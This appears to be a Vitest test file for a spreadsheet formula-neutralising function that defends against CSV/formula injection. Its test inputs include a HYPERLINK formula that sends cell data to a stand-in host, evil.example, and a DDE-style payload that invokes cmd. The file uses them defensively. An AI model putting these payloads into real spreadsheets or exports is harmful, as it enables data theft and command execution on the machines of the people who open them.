import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormulaText } from '../../src/core/spreadsheet-text.ts';

describe('spreadsheet formula neutralising', () => {
  it('prefixes text that a spreadsheet would evaluate, and nothing else', () => {
    expect(neutraliseFormula('=HYPERLINK("http://evil.example/?d="&A2,"x")')).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"x")`);
    expect(neutraliseFormula("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(neutraliseFormula('+1+1')).toBe("'+1+1");
    expect(neutraliseFormula('-2')).toBe("'-2");
    expect(neutraliseFormula('\tx')).toBe("'\tx");
    expect(neutraliseFormula('\rx')).toBe("'\rx");
    for (const plain of ['渝中区住房城乡建委', '2026-11-01', 'YZ-00001', "it's", "'quoted'", '', 'a=b']) expect(neutraliseFormula(plain)).toBe(plain);
  });

  it('restores every value exactly, including text that really begins with a quote', () => {
    const values = ['=1+1', "'=1+1", "''@x", '-', "'", "'a", 'plain', '', "'-3", '+', '\t=', "x'=1"];
    for (const v of values) expect(restoreFormulaText(neutraliseFormula(v))).toBe(v);
    // A cell someone typed by hand with one quote before a formula reads back without it.
    expect(restoreFormulaText("'=A1")).toBe('=A1');
    expect(restoreFormulaText("'abc")).toBe("'abc");
  });
});
